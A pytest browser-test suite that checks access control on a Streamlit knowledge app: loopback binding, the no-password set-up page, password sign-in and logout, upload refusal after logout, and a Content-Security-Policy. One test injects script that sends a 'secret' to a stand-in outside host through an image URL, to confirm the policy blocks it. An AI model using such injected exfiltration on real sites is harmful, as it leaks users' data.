"""Who can reach the app, checked on real servers: ``streamlit run app.py`` as the README says listens on
127.0.0.1 only; started on 0.0.0.0 without a password it serves only the "set a password" page, on
every URL; with a password, a wrong one is refused, the right one lets in, and logging out locks again.

Screenshots go to ``test-artifacts/browser/security/``.
"""

from __future__ import annotations

import re
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.helpers.browser import ARTIFACTS, Server, drop_files, explained, serve, shot, wait_for_app

pytestmark = [pytest.mark.browser]

# A deep link first: on a fresh server Streamlit runs the first request by its older pages-folder rules,
# where a page must still pass through app.py's gate (pages._ui.app_workbench).
PAGES = ["stores", "", "search", "files", "chat", "memory", "settings"]


@pytest.fixture(scope="module")
def sec_artifacts() -> Path:
    folder = ARTIFACTS / "security"
    folder.mkdir(parents=True, exist_ok=True)
    for old in folder.glob("*.png"):
        old.unlink()
    return folder


def listening_addresses(port: int) -> set[str]:
    """The local addresses with a socket listening on ``port`` (from /proc/net/tcp and tcp6)."""
    found = set()
    for table, width in (("/proc/net/tcp", 8), ("/proc/net/tcp6", 32)):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            local, state = fields[1], fields[3]
            addr_hex, port_hex = local.split(":")
            if state != "0A" or int(port_hex, 16) != port:  # 0A = LISTEN
                continue
            raw = bytes.fromhex(addr_hex)
            # /proc writes each 32-bit word in host (little-endian) order
            raw = b"".join(raw[i : i + 4][::-1] for i in range(0, len(raw), 4))
            family = socket.AF_INET if width == 8 else socket.AF_INET6
            found.add(socket.inet_ntop(family, raw))
    return found


def _port(server: Server) -> int:
    return int(server.url.rsplit(":", 1)[1])


def test_the_readme_command_listens_on_loopback_only(tmp_path: Path):
    with serve(tmp_path, address=None) as server:  # no --server.address: the project's config decides
        addresses = listening_addresses(_port(server))
    assert addresses, "nothing listens on the app's port"
    assert addresses <= {"127.0.0.1", "::1"}, addresses


@pytest.fixture(scope="module")
def open_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serve(tmp_path_factory.mktemp("shared-no-password"), address="0.0.0.0") as srv:
        yield srv


def test_shared_without_a_password_shows_only_how_to_set_one(browser, open_server: Server, sec_artifacts: Path):
    from playwright.sync_api import expect

    assert "0.0.0.0" in listening_addresses(_port(open_server)) or "::" in listening_addresses(_port(open_server))
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    pg = context.new_page()
    try:
        with explained(pg, open_server, sec_artifacts):
            for path in PAGES:
                pg.goto(f"{open_server.url}/{path}")
                wait_for_app(pg)
                main = pg.locator('[data-testid="stMain"]')
                # the code block paints after the text on a loaded machine (its highlighter loads late)
                expect(main).to_contain_text("KNOWLEDGE_APP_PASSWORD", timeout=30_000)
                body = main.inner_text()
                assert "no account and no password" in body and "Set-up token" in body, (path, body[:500])
                # nothing of the product: no page links, no upload, no search box, no store list
                assert pg.locator('[data-testid="stFileUploader"]').count() == 0
                assert pg.locator('[data-testid="stSidebarNav"]').count() == 0
                for word in ("Vector stores", "Search playground", "Drop files"):
                    assert word not in body
            shot(pg, sec_artifacts, "10-shared-without-password.png")
            pg.set_viewport_size({"width": 390, "height": 844})
            shot(pg, sec_artifacts, "11-shared-without-password-390.png")
    finally:
        context.close()


@pytest.fixture(scope="module")
def password_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serve(
        tmp_path_factory.mktemp("shared-password"),
        address="0.0.0.0",
        env_extra={"KNOWLEDGE_APP_PASSWORD": "correct horse battery"},
    ) as srv:
        yield srv


def test_with_a_password_wrong_is_refused_right_lets_in_and_logout_locks(
    browser, password_server: Server, sec_artifacts: Path
):
    from playwright.sync_api import expect

    context = browser.new_context(viewport={"width": 1280, "height": 800})
    pg = context.new_page()
    server = password_server
    try:
        with explained(pg, server, sec_artifacts):
            pg.goto(f"{server.url}/stores")  # a deep link waits behind the sign-in too
            wait_for_app(pg)
            main = pg.locator('[data-testid="stMain"]')
            expect(main.get_by_text("Password", exact=True)).to_be_visible()
            assert "Vector stores" not in main.inner_text()
            shot(pg, sec_artifacts, "20-sign-in.png")

            box = pg.locator("input[type=password]")
            box.fill("wrong guess")
            pg.get_by_role("button", name="Sign in").click()
            expect(main.get_by_text("Wrong password.")).to_be_visible(timeout=30_000)
            assert pg.locator('[data-testid="stFileUploader"]').count() == 0
            shot(pg, sec_artifacts, "21-wrong-password.png")

            box = pg.locator("input[type=password]")
            box.fill("correct horse battery")
            pg.get_by_role("button", name="Sign in").click()
            expect(pg.get_by_role("button", name="Log out")).to_be_visible(timeout=60_000)
            wait_for_app(pg)
            expect(pg.locator('[data-testid="stSidebarNav"]')).to_be_visible()
            shot(pg, sec_artifacts, "22-signed-in.png")

            pg.get_by_role("button", name="Log out").click()
            expect(pg.get_by_role("button", name="Sign in")).to_be_visible(timeout=30_000)
            assert pg.locator('[data-testid="stSidebarNav"]').count() == 0
            shot(pg, sec_artifacts, "23-logged-out.png")
    finally:
        context.close()


# -- nothing before sign-in, and the Content-Security-Policy (pages/_gate.py) ---------------------
BIG = 50 * 1024 * 1024
#: app.py's pages, as the sidebar names them
SIDEBAR = ["Home", "Vector stores", "Search playground", "Evaluate", "Files", "Chat", "Agent memory", "Settings", "People"]


@pytest.fixture(scope="module")
def gate_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serve(
        tmp_path_factory.mktemp("gate"),
        address="0.0.0.0",
        env_extra={"KNOWLEDGE_APP_PASSWORD": "correct horse battery", "KNOWLEDGE_EMBEDDINGS__MODEL": "fake/hash-8"},
    ) as srv:
        yield srv


def _sign_in(pg, server: Server, path: str = "") -> None:
    from playwright.sync_api import expect

    pg.goto(f"{server.url}/{path}")
    box = pg.locator("input[type=password]")
    box.fill("correct horse battery")  # waits for the form
    pg.get_by_role("button", name="Sign in").click()
    expect(pg.get_by_role("button", name="Log out")).to_be_visible(timeout=60_000)
    wait_for_app(pg)


def test_signed_in_the_uploader_works_and_a_big_upload_is_taken_until_log_out(
    browser, gate_server: Server, sec_artifacts: Path, tmp_path: Path
):
    """The other half of tests/app/test_webgate.py's refusals: once signed in, the Vector stores page's
    uploader works and the session's upload URL takes 50 MB (the server's memory grows by it: the
    memory check sees an upload); after Log out the same session's URL refuses."""
    from playwright.sync_api import expect

    from tests.helpers.browser import create_store, rerun_and_wait
    from tests.helpers.stream import put_upload, rss_bytes

    server = gate_server
    note = tmp_path / "lighthouse.md"
    note.write_text("# Lighthouse\n\nThe keeper counts seagulls every morning.\n", encoding="utf-8")
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    pg = context.new_page()
    puts: list[tuple[str, int]] = []
    pg.on(
        "response",
        lambda r: puts.append((r.url, r.status)) if r.request.method == "PUT" and "/_stcore/upload_file/" in r.url else None,
    )
    try:
        with explained(pg, server, sec_artifacts):
            _sign_in(pg, server)
            rerun_and_wait(pg, lambda: pg.get_by_role("link", name="Vector stores", exact=True).click())
            create_store(pg, "gate-demo")
            drop_files(pg, [str(note)])
            expect(pg.get_by_text(re.compile(r"lighthouse\.md — \d+ chunks?"))).to_be_visible(timeout=120_000)
            wait_for_app(pg)
            shot(pg, sec_artifacts, "30-signed-in-upload.png")
            assert puts and all(status == 204 for _, status in puts), puts
            session = puts[0][0].split("/_stcore/upload_file/")[1].split("/")[0]
            xsrf = next(c["value"] for c in context.cookies() if c["name"] == "_streamlit_xsrf")

            before = rss_bytes(server.proc.pid)
            status, body = put_upload(server.url, f"/_stcore/upload_file/{session}/big-1", BIG, xsrf)
            assert status == 204, (status, body)
            assert rss_bytes(server.proc.pid) - before > BIG // 2  # an upload taken shows in memory

            pg.get_by_role("button", name="Log out").click()
            expect(pg.get_by_role("button", name="Sign in")).to_be_visible(timeout=30_000)
            status, body = put_upload(server.url, f"/_stcore/upload_file/{session}/big-2", 1024, xsrf)
            assert status == 403 and "Sign in first" in body, (status, body)
    finally:
        context.close()


def test_every_page_has_the_csp_breaks_nothing_and_an_injected_outside_image_is_blocked(
    browser, gate_server: Server, sec_artifacts: Path
):

    for width, height in ((1280, 800), (390, 844)):
        _pages_under_csp(browser, gate_server, sec_artifacts, width, height)


def _pages_under_csp(browser, server: Server, sec_artifacts: Path, width: int, height: int) -> None:
    from playwright.sync_api import expect

    from tests.helpers.browser import rerun_and_wait

    context = browser.new_context(viewport={"width": width, "height": height})
    pg = context.new_page()
    violations: list[str] = []
    documents: list[str | None] = []
    failed: list[tuple[str, str]] = []
    pg.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    pg.on(
        "response",
        lambda r: (
            documents.append(r.headers.get("content-security-policy")) if r.request.resource_type == "document" else None
        ),
    )
    pg.on("requestfailed", lambda r: failed.append((r.url, r.failure or "")))
    try:
        with explained(pg, server, sec_artifacts):
            _sign_in(pg, server)
            assert documents and all(documents), documents  # each HTML load carried the policy
            assert "img-src 'self' data: blob:" in documents[-1]
            # wide: every page through the sidebar; on a phone (sidebar folded) two by their links
            for title in SIDEBAR if width > 600 else ["Vector stores", "Chat"]:
                if width > 600:
                    link = pg.get_by_test_id("stSidebarNav").get_by_role("link", name=title, exact=True)
                    rerun_and_wait(pg, link.click)
                else:
                    _sign_in(pg, server, {"Vector stores": "stores", "Chat": "chat"}[title])
                expect(pg.locator("h1").first).to_be_visible()
                pg.wait_for_timeout(300)
                assert not violations, (title, violations)
                assert not [f for f in failed if "/_stcore/" in f[0] and "/stores/" not in f[0]], failed
                if title in ("Vector stores", "Chat"):
                    shot(pg, sec_artifacts, f"4{SIDEBAR.index(title)}-csp-{title.split()[0].lower()}-{width}.png")
            blocked = pg.evaluate("""() => new Promise(done => {
                document.addEventListener('securitypolicyviolation',
                    e => done(e.violatedDirective + ' ' + e.blockedURI), {once: true});
                const img = document.createElement('img');
                img.src = 'http://203.0.113.9/exfiltrate.png?d=secret';
                document.body.appendChild(img);
                setTimeout(() => done('not blocked'), 10000);
            })""")
            assert blocked.startswith("img-src http://203.0.113.9/exfiltrate.png"), blocked
            outside = [f for f in failed if "203.0.113.9" in f[0]]
            assert outside and all("csp" in why for _, why in outside), outside  # never sent
    finally:
        context.close()
